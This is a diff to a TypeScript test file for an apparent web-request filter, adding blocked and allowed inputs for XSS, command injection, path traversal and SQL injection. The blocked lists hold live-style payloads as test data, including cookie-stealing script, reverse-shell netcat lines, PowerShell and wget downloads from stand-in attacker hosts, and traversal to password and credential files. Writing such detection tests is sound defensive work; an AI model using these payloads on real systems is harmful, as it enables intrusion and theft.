@@ -21,6 +21,34 @@ import { seededRandom } from '../support/seeded-random.ts';
 const TABLES: readonly ClassTable[] = [
   ...CODE_INJECTION_TABLES,
   {
+    name: 'xss probes and obfuscation',
+    expect: 'xss.',
+    place: 'query',
+    blocked: [
+      '48e71%3balert(1)//503466e3',
+      '}alert(/INJECTX/);{//',
+      '?playerready=alert(document.cookie)',
+      'top[/al/.source+/ert/.source](1)',
+      '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+      '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />',
+      'STYLE=X:URL(JAVASCRIPT:alert(1))',
+      "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
+      '<LAYER SRC="http://xss.example/scriptlet.html"></LAYER>',
+      '<v:vmlframe src="foo.com/sup.fml"/>',
+      '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]',
+    ],
+    passed: [
+      'Set an alert (daily)',
+      'alert me when the price drops',
+      'confirm your e-mail address',
+      'The window [left] opens (slowly)',
+      'C++ tips: use +=, not =+',
+      'A+ADw grade',
+      'style guide: url(fonts/x.woff)',
+      'Layers and masks in Photoshop',
+    ],
+  },
+  {
     name: 'ssti',
     expect: 'ssti.',
     place: 'query',
@@ -298,6 +326,22 @@ const TABLES: readonly ClassTable[] = [
       '| nc -e /bin/sh 10.0.0.1 4444',
       '& c^m^d /c dir',
       'x|%COMSPEC% /c whoami',
+      'Invoke-WebRequest http://203.0.113.5/payload.ps1',
+      ';iex (iwr http://10.0.10.10:8000/x.ps1)',
+      'cat /[?]tc/pa[?]swd',
+      '/bi[n]/bash -c id',
+      'time sh -c whoami',
+      '${SHELL} -c "curl attacker.example"',
+      '<(cat /etc/hosts)',
+      'uname -a',
+      'whoami',
+      'ipconfig /all',
+      'nc -lvvp 4444 -e /bin/sh',
+      'wget https://attacker.example/.testing/rce_vuln.txt',
+      ';id\\n',
+      '\\n/bin/ls -al\\n',
+      "require('child_process').exec('id')",
+      '_$$ND_FUNC$$_function(){}',
       // A command line on its own, without a metacharacter.
       'net localgroup Administrators hacker /ADD',
       "perl -e 'print \"X\"x1024'",
@@ -335,6 +379,15 @@ const TABLES: readonly ClassTable[] = [
       'echo "hello"',
       'Run `npm install` first',
       'Cost: $(5 + 3) total',
+      'Who am I? A memoir',
+      'uname and password please',
+      'Use the Invoke-WebRequest cmdlet to download files',
+      'bash scripting for beginners',
+      'arrays like a[i] and b[j]',
+      'see /docs/[id]/page.tsx',
+      'C:\\new\\test',
+      'The child_process module runs commands',
+      'Price <(5 + 3)',
     ],
   },
   {
@@ -343,6 +396,15 @@ const TABLES: readonly ClassTable[] = [
     place: 'query',
     blocked: [
       '\\\\fileserver01\\c$\\windows\\',
+      '/..%c0%2f..%c0%2fetc/passwd',
+      '..2fetc2fpasswd',
+      '/..0x2f',
+      '/Program Files\\Apache Group\\Apache\\logs\\access.log',
+      'C:/logs/httpd/access_log',
+      'c:\\System32\\Inetsrv\\metabase.xml',
+      'C:/users/administrator/ntuser.dat',
+      '/Volumes/Macintosh_HD1/opt/apache2/conf/httpd.conf',
+      '/var/log',
       '\\\\?\\C:\\Windows\\System32\\config\\SAM',
       '\\\\.\\pipe\\spoolss',
       'php://filter/convert.base64-encode/resource=index.php',
@@ -397,6 +459,9 @@ const TABLES: readonly ClassTable[] = [
       'Wait... what?',
       'Use the data URI scheme for small icons',
       'phar files are PHP archives',
+      '/app/logs/error.log',
+      '/var/logs/*',
+      'C:\\Users\\me\\Documents\\access_log.xlsx',
     ],
   },
   {
@@ -415,6 +480,16 @@ const TABLES: readonly ClassTable[] = [
       "'||(SELECT version())||'",
       "'; EXEC xp_cmdshell 'dir'--",
       "' AND extractvalue(1,concat(0x7e,(select user())))--",
+      "z'or email notnull--",
+      "x' or username like totpSecret escape 'x' --",
+      "admin@juice-sh.op' and email ilike email--",
+      "user'collate nocase--",
+      "' and a='a",
+      "' AND MID(VERSION(),1,1) = '5';",
+      "' OR '1",
+      "'=0--+",
+      'SELECT SLEEP(5)',
+      "1 union distinctrow select user()",
     ],
     passed: [
       "O'Reilly or Penguin",
@@ -426,6 +501,9 @@ const TABLES: readonly ClassTable[] = [
       "I'd rather order by phone",
       'Union Street 5, Select Apartments',
       "'Union' and 'Select' are both brands",
+      "Rock 'n' roll and blues -- live",
+      "'Sleep' by Max Richter",
+      "Tom's and Jerry's #",
     ],
   },
   {
@@ -616,7 +694,7 @@ const ONCE_INERT: readonly { text: string; fired: string }[] = [
  * Attacks too short to be recognised as base64 once unpadded: 5 bytes make 7 characters, below
  * base64-text.ts's minimum of 8 (padded, the same bytes make 8 and are decoded).
  */
-const KNOWN_SHORT_CARRIERS: readonly string[] = ['1`id`', '$a(1)'];
+const KNOWN_SHORT_CARRIERS: readonly string[] = ['1`id`', '$a(1)', ';id\\n'];
 
 describe('rule classes at paranoia level 1', () => {
   for (const table of TABLES) {
